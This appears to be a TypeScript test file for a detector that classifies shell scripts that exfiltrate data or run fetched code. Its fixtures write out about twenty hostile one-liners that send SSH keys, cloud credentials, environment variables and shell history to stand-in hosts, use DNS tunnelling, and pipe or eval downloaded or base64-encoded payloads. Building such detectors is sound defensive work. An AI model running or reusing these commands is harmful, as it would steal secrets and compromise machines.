import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deedsIn } from './script.js';

const kinds = (script: string): string => deedsIn(script).map(({ kind }) => kind).join();

describe('what scripts of a shell do with data', () => {
  const told: [string, string, string][] = [
    ['a variable with what commands say, letter by letter, asked as names', 'sends-computer', 'a=$(hostname;pwd;whoami) && echo $a | xxd -p | head | while read part;do nslookup $part.b7.collect.example;done'],
    ['a group that is written to a file which is sent', 'sends-private', 'OUT=$(mktemp)\n{ date; id; cat /etc/passwd; cat ~/.aws/credentials; } > "$OUT" 2>&1\ncurl -s -F "file=@$OUT" "https://hook.example/7f0b"\nrm -f "$OUT"'],
    ['an archive of folders', 'sends-private', 'tar czf /tmp/.c.tgz ~/.ssh ~/.aws 2>/dev/null; curl -T /tmp/.c.tgz https://up.example/'],
    ['an archive in a pipe', 'sends-private', 'tar cz ~/.ssh | curl --data-binary @- https://up.example/in'],
    ['a function that is given a file', 'sends-private', 'up() { curl -s -X POST -d @"$1" https://up.example; }\nfor f in ~/.npmrc ~/.netrc; do up $f; done'],
    ['a list of files in a variable', 'sends-private', 'FILES="$HOME/.ssh/id_rsa $HOME/.kube/config"\nfor f in $FILES; do [ -f $f ] && wget -q --post-file=$f https://up.example; done'],
    ['whatever is found', 'sends-private', 'find / -name id_rsa -exec curl -F k=@{} https://up.example \\;'],
    ['an encoded environment in a path', 'sends-private', 'D=$(env | base64 -w0)\nwget -q "https://up.example/?d=${D}" -O /dev/null'],
    ['the environment through a program', 'sends-private', 'printenv | gzip | base64 | tr -d "\\n" > /tmp/e; nc up.example 4444 < /tmp/e'],
    ['two keys of different owners', 'sends-private', 'curl -s "https://up.example/?a=$AWS_SECRET_ACCESS_KEY&b=$NPM_TOKEN"'],
    ['history', 'sends-private', 'tail -500 ~/.bash_history | curl -sd @- up.example'],
    ['a variable of the shell', 'sends-computer', 'wget -qO- "http://up.example/?u=$USER&h=$HOSTNAME" >/dev/null'],
    ['an answer, either of two', 'runs-answer', 'h=rules; d=$h.example\n(wget -qO- "https://$d/r" || curl -s "https://$d/r") 2>/dev/null | sh >/dev/null 2>&1 &'],
    ['an answer in a variable', 'runs-answer', 'code="$(curl -fsS https://get.example/s)"\neval "$code"'],
    ['an answer in a file that is made a program', 'runs-answer', 'T=/tmp/.x; curl -s -o $T https://get.example/x\nchmod 755 $T\nnohup $T >/dev/null 2>&1 &'],
    ['an answer under its own name', 'runs-answer', 'cd /tmp\nwget -q https://get.example/agent.sh\nbash agent.sh'],
    ['an answer on its way through a function', 'runs-answer', 'get() { curl -s "$1"; }\nget https://get.example/a | python3 -'],
    ['an answer in the place of a file', 'runs-answer', 'source <(curl -s https://get.example/env)'],
    ['what stood there encoded', 'runs-hidden', 'p=Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlL3N8c2g=\neval "$(echo $p | base64 -d)"'],
    ['a script in the words of another', 'sends-private', "bash -c 'cat ~/.git-credentials | curl -d @- https://up.example'"],
    ['by way of other programs', 'sends-private', 'cat ~/.ssh/id_ed25519 | sudo timeout 5 curl -s --data-binary @- https://up.example'],
  ];
  for (const [what, expected, script] of told) {
    it(`tells ${expected}: ${what}`, () => assert.ok(kinds(script).split(',').includes(expected), kinds(script)));
  }

  const honest: [string, string][] = [
    ['the kind of computer in an address', 'OS=$(uname -s | tr A-Z a-z); ARCH=$(uname -m)\ncurl -fsSL "https://dl.example/v1/tool-$OS-$ARCH.tar.gz" | tar xz -C bin'],
    ['a version that is asked and unpacked', 'V=$(curl -s https://api.example/latest | grep tag_name | cut -d\'"\' -f4)\nwget -q "https://dl.example/$V/model.bin" -O data/model.bin\necho "$V" > VERSION'],
    ['whoever asks its own computer', 'curl -s "http://localhost:9200/_nodes/$(hostname)"; ping -c1 $(hostname)'],
    ['a login', 'ssh $USER@build.example "systemctl restart app"; curl -u "$USER:$PASS" https://repo.example/file -O'],
    ['a key at its owner', 'curl -s -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases'],
    ['a file of the package that is uploaded', 'tar czf build.tgz dist\ncurl -F "file=@build.tgz" https://deploy.example/upload'],
    ['an agent', 'eval "$(ssh-agent -s)"; ssh-add ~/.ssh/id_rsa'],
    ['a profile', 'source ~/.bashrc; export PATH=$PATH:$(pwd)/bin; curl -sO https://dl.example/words.txt'],
    ['text that is shown', 'echo "curl https://get.example | sh"; cat <<EOF\nrun: curl -d "$(env)" \nEOF'],
    ['a number for a container', 'docker run -u $(id -u):$(id -g) -v $(pwd):/w image curl https://dl.example/x'],
    ['a file beside the script', 'KEY="$(cd "$(dirname "$0")" && pwd)/key.txt"; U=https://api.example/md?t=$(cat $KEY); curl --data-binary @"$1" $U'],
    ['a commit', 'curl -d "sha=$(git rev-parse HEAD)&t=$(date +%s)" https://ci.example/hook'],
  ];
  for (const [what, script] of honest) it(`says nothing of ${what}`, () => assert.equal(kinds(script), ''));

  it('ends, whatever it is given', () => {
    for (const script of ['f() { f; f; }; f; curl x.example', 'for a in 1 2 3 4 5 6 7 8; do '.repeat(12) + 'curl x.example;' + 'done;'.repeat(12), `${'$('.repeat(20_000)}curl`, `${'{ '.repeat(20_000)}curl`, `curl ${'"$('.repeat(5_000)}`]) assert.match(kinds(script), /^(?:unfollowed)?$/);
  });

  it('says so where there is more than it follows', () => {
    for (const [filler, kind] of [[':;'.repeat(100), 'runs-answer'], [':;'.repeat(150_000), 'unfollowed'], [`A='${'x'.repeat(140_000)}';`, 'unfollowed,runs-answer'], [`A='${'x'.repeat(100_000)}';`, 'runs-answer']] as const) assert.equal(kinds(`${filler}curl -s https://up.example | sh`), kind, filler.slice(0, 9));
  });

  it('says where', () => assert.deepEqual(deedsIn('cd /tmp\ncat ~/.npmrc | curl -d @- https://up.example'), [{ kind: 'sends-private', at: 8 }]));
});
